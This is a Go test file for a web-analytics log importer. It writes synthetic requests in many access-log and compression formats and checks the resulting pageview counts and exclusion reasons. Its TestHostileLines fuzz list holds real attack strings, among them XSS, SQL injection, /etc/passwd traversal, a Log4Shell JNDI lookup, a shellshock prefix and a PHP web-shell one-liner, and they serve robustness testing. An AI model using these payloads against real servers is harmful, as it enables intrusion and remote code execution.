package collect_test

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/beforehand-go/beforehand/collect"
	"github.com/beforehand-go/beforehand/pageview"
	"github.com/klauspost/compress/zstd"
)

// request is what every format below writes down in its own way.
type request struct {
	at                                          time.Time
	addr, host, method, target, referrer, agent string
	status                                      int
}

// requests makes a day's requests: pages, files, errors, bots, feed readers,
// paths and agents of every kind.
func requests(n int) []request {
	r := rand.New(rand.NewPCG(3, 4))
	pick := func(of ...string) string { return of[r.IntN(len(of))] }
	var all []request
	for i := range n {
		q := request{
			at:     time.Date(2026, 3, 1, 0, 0, i*60000/n, 0, time.UTC),
			addr:   pick("203.0.113.", "198.51.100.") + fmt.Sprint(r.IntN(50)),
			host:   "example.com",
			method: pick("GET", "GET", "GET", "GET", "GET", "GET", "HEAD", "POST"), status: []int{200, 200, 200, 200, 304, 301, 404}[r.IntN(7)],
			target:   pick("/", "/a", "/b?utm_source=x&utm_medium=mail", "/%E4%BD%A0%E5%A5%BD", "/caf%C3%A9/", "/x.css", "/i.png?v=2", "/a%20b", "/100%25", "/feed/"),
			referrer: pick("-", "-", "https://www.news.example/item?id=4", "https://example.com/a", "http://search.example/?q=%E4%BD%A0"),
			agent: pick(firefox, firefox, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBOP/5]",
				"curl/8.5.0", "Tiny Tiny RSS/1.15.3 (http://tt-rss.org/)", "-", `strange "quoted" \ agent`, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
		}
		if r.IntN(10) == 0 {
			q.addr = fmt.Sprintf("2001:db8::%x", r.IntN(9))
		}
		all = append(all, q)
	}
	return all
}

// apacheText is a value as Apache escapes it, nginxText as nginx does.
func apacheText(s string) string {
	return strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s)
}

func nginxText(s string) string {
	return strings.NewReplacer(`\`, `\x5C`, `"`, `\x22`).Replace(s)
}

func (q request) common() string {
	return fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d 51`, q.addr, q.at.Format("02/Jan/2006:15:04:05 -0700"), q.method, q.target, q.status)
}

func (q request) combined(escape func(string) string) string {
	return fmt.Sprintf(`%s "%s" "%s"`, q.common(), escape(q.referrer), escape(q.agent))
}

func (q request) path() (path, query string) {
	path, query, _ = strings.Cut(q.target, "?")
	if query == "" {
		query = "-"
	}
	return path, query
}

func asJSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func (q request) caddy() string {
	headers := map[string][]string{}
	for name, v := range map[string]string{"Referer": q.referrer, "User-Agent": q.agent} {
		if v != "-" {
			headers[name] = []string{v}
		}
	}
	return asJSON(map[string]any{
		"level": "info", "ts": float64(q.at.Unix()), "logger": "http.log.access", "msg": "handled request", "status": q.status, "size": 51,
		"request": map[string]any{
			"remote_ip": q.addr, "client_ip": q.addr, "proto": "HTTP/1.1", "method": q.method, "host": q.host, "uri": q.target, "headers": headers,
		},
	})
}

func cloudFrontText(s string) string {
	var b strings.Builder
	for i := range len(s) {
		if c := s[i]; c <= ' ' || c > '~' || strings.IndexByte(`"#%<>\`, c) >= 0 {
			fmt.Fprintf(&b, "%%%02X", c)
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

// written is one way to write requests down.
type written struct {
	name, format string // format is empty where it is to be found
	head         string
	line         func(request) string
	agentTold    bool
	agentText    bool // … letter by letter
}

func formats() []written {
	clock := func(q request) string { return q.at.Format(time.DateTime) }
	return []written{
		{"combined", "", "", func(q request) string { return q.combined(apacheText) }, true, true},
		{"combined of nginx, after broken lines", "", "x\n\x00\x01\n\n", func(q request) string { return q.combined(nginxText) }, true, true},
		{"combined with a proxy", "", "", func(q request) string {
			return strings.Replace(q.combined(nginxText), q.addr, "10.0.0.1", 1) + ` "` + q.addr + `, 10.0.0.2"`
		}, true, true},
		{"combined with a host", "", "", func(q request) string { return q.host + ":443 " + q.combined(apacheText) }, true, true},
		{"common", "", "", request.common, false, false},
		{"common with a host", "", "", func(q request) string { return q.host + " " + q.common() }, false, false},
		{"nginx JSON", "", "", func(q request) string {
			return asJSON(map[string]any{
				"time_iso8601": q.at.Format(time.RFC3339), "remote_addr": q.addr, "request": q.method + " " + q.target + " HTTP/1.1", "status": fmt.Sprint(q.status),
				"http_referer": q.referrer, "http_user_agent": q.agent, "host": q.host, "body_bytes_sent": 51,
			})
		}, true, true},
		{"Caddy", "", "", request.caddy, true, true},
		{
			"CloudFront", "", "#Version: 1.0\n#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query x-host-header\n",
			func(q request) string {
				path, query := q.path()
				return strings.Join([]string{
					q.at.Format(time.DateOnly), q.at.Format(time.TimeOnly), "FRA2", "51", q.addr, q.method, "d1.cloudfront.net", cloudFrontText(path),
					fmt.Sprint(q.status), cloudFrontText(q.referrer), cloudFrontText(q.agent), cloudFrontText(query), q.host,
				}, "\t")
			}, true, true,
		},
		{
			"IIS", "", "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) cs(Referer) sc-status\n",
			func(q request) string {
				path, query := q.path()
				return fmt.Sprintf("%s 10.0.0.5 %s %s %s %s %s %s %d", clock(q), q.method, path, query, q.addr, strings.ReplaceAll(q.agent, " ", "+"), q.referrer, q.status)
			}, true, false,
		},
		{
			"W3C with tabs", "", "#Fields: date time c-ip cs-method cs-uri sc-status cs(Referer) cs(User-Agent)\n",
			func(q request) string {
				return strings.Join([]string{
					q.at.Format(time.DateOnly), q.at.Format(time.TimeOnly), q.addr, q.method, q.target, fmt.Sprint(q.status), q.referrer, q.agent,
				}, "\t")
			}, true, true,
		},
		{
			"a format string of nginx", `$http_host $remote_addr [$msec] "$request_method $request_uri" $status "$http_referer" "$http_user_agent"`, "",
			func(q request) string {
				return fmt.Sprintf(`%s %s [%d.000] "%s %s" %d "%s" "%s"`, q.host, q.addr, q.at.Unix(), q.method, q.target, q.status, nginxText(q.referrer), nginxText(q.agent))
			}, true, true,
		},
		{
			"a format string of Apache", `%{%Y-%m-%d}t %{%H:%M:%S}t %m %U%q %>s %a "%{Referer}i" "%{User-Agent}i" %D`, "",
			func(q request) string {
				return fmt.Sprintf(`%s %s %s %d %s "%s" "%s" 12`, clock(q), q.method, q.target, q.status, q.addr, apacheText(q.referrer), apacheText(q.agent))
			}, true, true,
		},
	}
}

// TestEveryFormatGivesTheSameNumbers writes one set of requests down in every
// format, and packs it in every way.
func TestEveryFormatGivesTheSameNumbers(t *testing.T) {
	all := requests(3000)
	var want map[bool]string
	for i, f := range formats() {
		im := plainImporter(t)
		var text strings.Builder
		text.WriteString(f.head)
		for _, q := range all {
			text.WriteString(f.line(q) + "\n")
		}
		log := collect.Log{
			Name: "access.log", Site: &collect.Site{Name: site, Zone: time.UTC, Hosts: []string{"example.com"}},
			Data: packedAs(t, i%4, text.String()), Format: f.format,
		}
		s, err := im.Import(t.Context(), log, nil)
		if err != nil {
			t.Errorf("%s: %v", f.name, err)
			continue
		}
		if n := s.Pageviews + sum(s.LeftOut); n != s.Lines || s.Lines != int64(len(all)+strings.Count(f.head, "\n")) {
			t.Errorf("%s: %d lines, %d accounted for", f.name, s.Lines, n)
		}
		got := numbers(kept(im), f)
		if want == nil { // the first is the one the others are held to
			want = map[bool]string{true: numbers(kept(im), f)}
			noAgent := f
			noAgent.agentTold = false
			want[false] = numbers(kept(im), noAgent)
		}
		if got != want[f.agentTold] {
			t.Errorf("%s (found as %s), %+v:\n got %.900s\nwant %.900s", f.name, s.Format, s.LeftOut, got, want[f.agentTold])
		}
	}
}

// numbers are the pageviews counted by all that a format carries.
func numbers(views []pageview.Pageview, f written) string {
	counts := map[string]int{}
	visitors := map[string]map[uint64]bool{}
	for _, v := range views {
		key := v.Path + " " + v.Hour.Format("15") + " " + v.Campaign.Source
		if f.agentTold {
			key += fmt.Sprintf(" %s %s %s %s %s %s", v.Referrer, v.ReferrerPage, v.Bot, v.Browser, v.System, v.Device)
		}
		counts[key]++
		if visitors[v.Path] == nil {
			visitors[v.Path] = map[uint64]bool{}
		}
		visitors[v.Path][v.Visitor] = true
	}
	var b strings.Builder
	for _, key := range slices.Sorted(maps.Keys(counts)) {
		fmt.Fprintf(&b, "%s: %d\n", key, counts[key])
	}
	if f.agentTold {
		for _, path := range slices.Sorted(maps.Keys(visitors)) {
			fmt.Fprintf(&b, "%s: %d visitors\n", path, len(visitors[path]))
		}
	}
	return b.String()
}

// packedAs packs a text: not at all, with gzip, with gzip in two members, or
// with zstd.
func packedAs(t *testing.T, way int, text string) io.Reader {
	t.Helper()
	var b bytes.Buffer
	gz := func(text string) {
		z := gzip.NewWriter(&b)
		io.WriteString(z, text)
		z.Close()
	}
	switch way {
	case 1:
		gz(text)
	case 2:
		gz(text[:len(text)/2])
		gz(text[len(text)/2:])
	case 3:
		z, err := zstd.NewWriter(&b)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(z, text)
		z.Close()
	default:
		b.WriteString(text)
	}
	return &b
}

// bzip2Line is what bzip2 makes of one line of the combined format.
const bzip2Line = "" +
	"\x42\x5a\x68\x39\x31\x41\x59\x26\x53\x59\xbf\x83\xe3\xef\x00\x00\x2a\x5f\x80\x40\x10\x50\x6b\xff" +
	"\x78\x03\xc6\xc4\x4a\xab\x2d\x97\x50\x20\x00\x72\x31\xea\x68\x03\x40\x00\x00\xd0\x1e\xa0\xf5\x34" +
	"\x1a\x9a\x65\x3d\x14\xf1\x4c\x86\x86\x4d\x19\x34\x34\x00\xc8\x82\x51\x7b\x4c\x53\x1b\x91\x28\x97" +
	"\x3a\x9c\x59\x29\xac\xe0\x19\x31\xf2\x41\xac\xa6\x6d\xef\xf7\xf6\x55\xc5\xfb\x48\x13\x0b\x7e\xe6" +
	"\xd7\x9d\x09\x10\x86\x0d\x32\x59\xc5\x86\x1c\x98\x2c\xc8\xd8\x18\xb1\xc1\x18\x50\xe0\xab\xd6\xea" +
	"\x64\xf1\xa3\x28\xac\x87\x6a\x05\x41\xeb\xb3\x0d\x10\xca\x23\x6b\xc1\xe4\xe4\x64\x88\xf6\xdf\xaa" +
	"\x11\x11\xa2\x67\xe3\xa4\x58\x0f\xc5\xdc\x91\x4e\x14\x24\x2f\xe0\xf8\xfb\xc0"

func TestBzip2(t *testing.T) {
	s, err := importLog(plainImporter(t), strings.NewReader(bzip2Line))
	if err != nil || s.Pageviews != 1 || s.Lines != 1 {
		t.Errorf("%+v, error %v", s, err)
	}
}

// TestHostileLines imports what scanners and attackers send, in every format.
func TestHostileLines(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	parts := []string{
		"<script>alert(1)</script>", "' OR 1=1 --", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "\xff\xfe\x00", "%00%0d%0aSet-Cookie:x",
		"../../../../etc/passwd", "${jndi:ldap://x.example/a}", "\x1b[31mred\x1b[0m", "\u202egpj.exe", strings.Repeat("A", 3000), "GET /", "\\x22\\", `"`, " ", "\t", "[", "]", "{", "}",
		"-", "http://[::1", "//evil.example/x", "?x=" + strings.Repeat("%", 90), "*", ":", "%zz", "{\"a\":", "\xc0\xaf", "0", "-1", "99999999999999999999", "\u0000",
		"() { :;}; /bin/bash", "<?php system($_GET['c']);?>", "\u2028", "javascript:alert(1)", "/a/b.html", "GET", "HTTP/1.1", "200",
	}
	junk := func() string {
		var b strings.Builder
		for range r.IntN(6) {
			b.WriteString(parts[r.IntN(len(parts))])
		}
		return strings.NewReplacer("\n", "", "\r", "").Replace(b.String())
	}
	good := requests(20)
	for _, f := range formats() {
		im := plainImporter(t)
		var text strings.Builder
		text.WriteString(f.head)
		for i := range 1500 {
			q := good[i%len(good)]
			switch i % 5 {
			case 0:
				q.target = "/" + junk()
			case 1:
				q.agent, q.referrer = firefox+junk(), "http://x.example/"+junk()
			case 2:
				q.addr, q.method = junk(), junk()
			case 3:
				text.WriteString(junk() + "\n")
				continue
			}
			line := []byte(strings.ReplaceAll(f.line(q), "\n", ""))
			if i%7 == 0 { // one byte is spoilt
				line[r.IntN(len(line))] = byte(r.IntN(256))
			}
			text.Write(bytes.ReplaceAll(line, []byte("\n"), nil))
			text.WriteString("\n")
		}
		s, err := im.Import(t.Context(), collect.Log{
			Name: "x", Site: &collect.Site{Name: site, Zone: time.UTC}, Data: strings.NewReader(text.String()), Format: f.format,
		}, nil)
		if err != nil {
			t.Errorf("%s: %v", f.name, err)
			continue
		}
		if n := s.Pageviews + sum(s.LeftOut); n != s.Lines {
			t.Errorf("%s: %d lines, %d accounted for", f.name, s.Lines, n)
		}
		for _, b := range s.BrokenLines {
			if !printable(b.Why) || strings.Contains(b.Why, "script") || strings.Contains(b.Why, "203.0.113") {
				t.Errorf("%s: %q", f.name, b.Why)
			}
		}
		for _, v := range kept(im) {
			for _, text := range []string{v.Path, v.Referrer, v.ReferrerPage, v.Campaign.Source, v.Browser, v.System, v.Language, v.Country} {
				if !printable(text) || len(text) > 3*2048 {
					t.Errorf("%s: %q is kept", f.name, text)
				}
			}
			if !strings.HasPrefix(v.Path, "/") {
				t.Errorf("%s: path %q", f.name, v.Path)
			}
		}
	}
}

func printable(s string) bool {
	return utf8.ValidString(s) && !strings.ContainsFunc(s, func(r rune) bool { return !unicode.IsPrint(r) })
}

func TestReasons(t *testing.T) {
	im := plainImporter(t)
	own := &collect.Site{Name: site, Zone: time.UTC, Hosts: []string{"example.com"}}
	own.Exclude.Addrs = append(own.Exclude.Addrs, netip.MustParsePrefix("198.51.100.0/24"))
	at := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	page := request{at, "203.0.113.9", "www.example.com:443", http.MethodGet, "/a", "-", firefox, 200}
	var b strings.Builder
	line := func(change func(q *request)) {
		q := page
		change(&q)
		b.WriteString(q.host + " " + q.combined(apacheText) + "\n")
	}
	line(func(*request) {})
	line(func(q *request) { q.host = "other.example" })
	line(func(q *request) { q.addr = "198.51.100.7" })
	line(func(q *request) { q.at = time.Date(1994, 12, 31, 0, 0, 0, 0, time.UTC) })
	line(func(q *request) { q.at = time.Now().Add(72 * time.Hour) })
	line(func(q *request) { q.at = time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC) })
	line(func(q *request) { q.method = http.MethodHead })
	line(func(q *request) { q.status = 206 })
	line(func(q *request) { q.target = "/feed.XML?x=/a" })
	line(func(q *request) { q.target = "*" })
	line(func(q *request) { q.agent = "Feedly/1.0" })
	line(func(q *request) { q.agent = "-" })
	s, err := im.Import(t.Context(), collect.Log{Name: "x", Site: own, Data: strings.NewReader(b.String())}, nil)
	want := map[string]int64{
		"other_host": 1, "excluded": 1, "time": 3, "method": 1, "status": 1, "static_file": 1, "not_a_page": 1, "feed_reader": 1, "bot": 1,
	}
	if err != nil || s.Pageviews != 1 || !maps.Equal(s.LeftOut, want) || s.Format != "vhost-combined" {
		t.Errorf("%+v, error %v", s, err)
	}
}
